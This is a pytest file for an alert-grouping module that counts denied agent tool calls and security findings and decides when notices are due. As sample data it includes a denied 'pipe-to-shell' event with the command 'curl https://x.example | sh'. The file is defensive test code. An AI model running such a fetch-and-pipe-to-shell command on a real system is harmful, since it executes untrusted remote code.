"""`routing.group`: counting, and when something is due, with times as arguments."""

from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from spawngate.routing.facts import facts
from spawngate.routing.group import MOST_ENDPOINTS, Group, Seen, key_of, observe, seen, silent, stamp, tell, told
from spawngate.routing.notice import Notice, Sample
from spawngate.routing.route import Route, RouteText, understand
from tests.routing.samples import NOW, deny, finding

T = 1_795_255_200.0
"""2026-11-21T10:00:00Z"""


def route(**values: Any) -> Route:
    return understand(RouteText(**{"name": "r", "destination": "d", **values}), "notify", "slack", "route.r")


ROUTE = route()
EMPTY = Group("k", "r", {"rule": "pipe-to-shell"})


def event(record: dict[str, Any], at: float = T) -> Seen:
    return seen(record, facts(record), ROUTE, stamp(at))


def denies(count: int, at: float = T, **values: Any) -> list[Seen]:
    return [event(deny(**values), at) for _ in range(count)]


def test_a_group_from_its_first_event_to_its_notice() -> None:
    group = observe(EMPTY, denies(2), ROUTE, T)
    assert (group.total, group.fresh, group.endpoint_count, group.severity, group.due) == (2, 2, 1, "high", T + 30)
    notice, after = tell(group, ROUTE, T + 30)
    assert notice == Notice(
        id=notice.id,
        key="k",
        route="r",
        kind="new",
        title="Calls denied: rule pipe-to-shell",
        severity="high",
        labels={"rule": "pipe-to-shell"},
        total=2,
        fresh=2,
        endpoints=1,
        first="2026-11-21T10:00:00Z",
        last="2026-11-21T10:00:00Z",
        verdicts={"deny": 2},
        samples=(
            Sample(
                NOW, "laptop-1", "Bash: curl https://x.example | sh", "high", "deny", "claude-code", "ana", "decision"
            ),
        )
        * 2,
        seconds=0.0,
    )
    assert after == msgspec.structs.replace(
        group, fresh=0, news=False, told=T + 30, ordinal=1, alone=True, samples=(), due=0.0
    )


def test_something_new_waits_for_the_interval_and_more_of_the_same_for_the_repeat() -> None:
    _, group = tell(observe(EMPTY, denies(1), ROUTE, T), ROUTE, T + 30)
    assert group is not None
    same = observe(group, denies(5, T + 60), ROUTE, T + 60)
    assert same.due == T + 30 + 14400
    other = observe(same, [event(deny("laptop-2"), T + 90)], ROUTE, T + 90)
    assert other.due == T + 30 + 300
    worse = observe(group, denies(1, T + 60, severity="critical"), ROUTE, T + 60)
    assert (worse.due, worse.severity) == (T + 30 + 300, "critical")
    late = observe(group, [event(deny("laptop-3"), T + 9000)], ROUTE, T + 9000)
    assert late.due == T + 9030


def test_each_notice_has_its_own_id_and_every_attempt_the_same() -> None:
    group = observe(EMPTY, denies(1), ROUTE, T)
    first, after = tell(group, ROUTE, T + 30)
    again, _ = tell(group, ROUTE, T + 999)
    assert after is not None
    second, _ = tell(observe(after, denies(1), ROUTE, T), ROUTE, T + 400)
    assert first.id == again.id != second.id
    assert first.key == second.key == "k"
    assert (second.kind, second.fresh, second.total) == ("update", 1, 2)


def test_a_finding_is_repeated_while_it_is_open_and_told_once_when_it_closes() -> None:
    group = observe(EMPTY, [event(finding("opened")), event(finding("opened", "laptop-2"))], ROUTE, T)
    notice, group = tell(group, ROUTE, T + 30)  # type: ignore[assignment]  # it is open, so it stays
    assert (notice.kind, notice.open, group.due) == ("new", 2, T + 30 + 14400)
    notice, group = tell(group, ROUTE, group.due)  # type: ignore[assignment]  # as above
    assert (notice.kind, notice.open, notice.fresh) == ("repeat", 2, 0)
    half = observe(group, [event(finding("closed"), T + 20_000)], ROUTE, T + 20_000)
    assert (len(half.open), half.closing, half.due) == (1, False, group.due)
    whole = observe(half, [event(finding("closed", "laptop-2"), T + 20_000)], ROUTE, T + 20_000)
    assert (whole.open, whole.closing, whole.due) == ((), True, T + 20_030)
    notice, gone = tell(whole, ROUTE, T + 20_030)
    assert (notice.kind, notice.open, gone) == ("closed", 0, None)


def test_a_finding_that_opens_again_before_it_was_told_is_not_closed() -> None:
    group = observe(EMPTY, [event(finding("opened")), event(finding("closed"))], ROUTE, T)
    assert group.closing
    again = observe(group, [event(finding("opened"))], ROUTE, T)
    assert (again.closing, len(again.open)) == (False, 1)


def test_a_closing_of_what_nobody_knew_is_told_too() -> None:
    """The server was set up after the finding was opened, and an issue of it may be there."""
    notice, gone = tell(observe(EMPTY, [event(finding("closed"))], ROUTE, T), ROUTE, T + 30)
    assert (notice.kind, gone) == ("closed", None)


def test_silence() -> None:
    group = observe(EMPTY, denies(1), ROUTE, T)
    assert silent(group, ROUTE, T + 1e9) is group
    _, after = tell(group, ROUTE, T + 30)
    assert after is not None
    assert silent(after, ROUTE, T + 86_000) is after
    assert silent(after, ROUTE, T + 30 + 86_400) is None
    closing = silent(after, route(close_after="1h"), T + 30 + 3600)
    assert closing == msgspec.structs.replace(after, closing=True, due=T + 3630)


def test_endpoints_are_counted_exactly_up_to_a_bound() -> None:
    many = [event(deny(f"laptop-{number % (MOST_ENDPOINTS + 5)}")) for number in range(2 * MOST_ENDPOINTS)]
    group = observe(EMPTY, many, ROUTE, T)
    assert (group.endpoint_count, group.endpoints_more, group.total) == (MOST_ENDPOINTS, True, 2 * MOST_ENDPOINTS)
    exact = observe(EMPTY, many[:MOST_ENDPOINTS], ROUTE, T)
    assert (exact.endpoint_count, exact.endpoints_more) == (MOST_ENDPOINTS, False)


def test_samples_are_the_worst_of_different_endpoints() -> None:
    events = [event(deny("loud"))] * 20 + [event(deny(f"laptop-{n}")) for n in range(12)]
    events.append(event(deny("last", severity="critical")))
    group = observe(EMPTY, events, ROUTE, T)
    assert [sample.endpoint for sample in group.samples] == ["loud", *(f"laptop-{n}" for n in range(8)), "last"]


def test_what_an_endpoint_invents_is_bounded() -> None:
    events = [event({"type": f"t{n}", "decision": {"verdict": f"v{n}"}}) for n in range(500)]
    group = observe(EMPTY, events, ROUTE, T)
    assert (len(group.types), group.types["other"], sum(group.types.values())) == (20, 481, 500)
    assert group.verdicts == {"other": 500}


def test_a_wrong_time_of_arrival_is_no_error() -> None:
    assert seen({}, facts({}), ROUTE, "yesterday").received == 0.0


@pytest.mark.parametrize(
    ("labels", "title"),
    [
        ({"type": "decision", "rule": "x", "server": ""}, "Calls denied: rule x"),
        ({"fingerprint": "0123456789abcdef0123"}, "Calls denied: fingerprint 0123456789abcdef"),
        ({}, "route r"),
    ],
)
def test_titles(labels: dict[str, str], title: str) -> None:
    group = observe(Group("k", "r", labels), denies(2), ROUTE, T)
    assert tell(group, ROUTE, T)[0].title == title


def test_an_event_by_itself_is_its_own_title() -> None:
    single = route(group_by=("...",))
    group = observe(Group("k", "r", {"endpoint": "e"}), denies(1), single, T)
    notice, after = tell(group, single, T)
    assert (notice.title, after) == ("Bash: curl https://x.example | sh", None)
    assert told(group, single, T, alone=False) is None


def test_keys_tell_routes_and_labels_apart() -> None:
    keys = {
        key_of("r", {"a": "b"}),
        key_of("r", {"a": ""}),
        key_of("r", {}),
        key_of("s", {"a": "b"}),
        key_of("r", {"a": "b", "c": ""}),
        key_of("r", {"ab": ""}),
    }
    assert len(keys) == 6
    assert key_of("r", {"a": "1", "b": "2"}) == key_of("r", {"b": "2", "a": "1"})


@given(
    st.lists(
        st.tuples(
            st.sampled_from(["deny", "opened", "closed", "tell", "digest"]), st.integers(0, 5), st.integers(0, 4000)
        ),
        max_size=40,
    )
)
def test_every_event_is_told_exactly_once(steps: list[tuple[str, int, int]]) -> None:
    group: Group | None = EMPTY
    now, observed, told_of = T, 0, 0
    for what, number, later in steps:
        now += later
        group = group or EMPTY
        if what in ("tell", "digest"):
            told_of += group.fresh
            group = tell(group, ROUTE, now)[1] if what == "tell" else told(group, ROUTE, now, alone=False)
            continue
        record = deny(f"laptop-{number}") if what == "deny" else finding(what, f"laptop-{number}")
        group = observe(group, [event(record, now)], ROUTE, now)
        observed += 1
        assert group.due > 0
    assert told_of + (group.fresh if group else 0) == observed
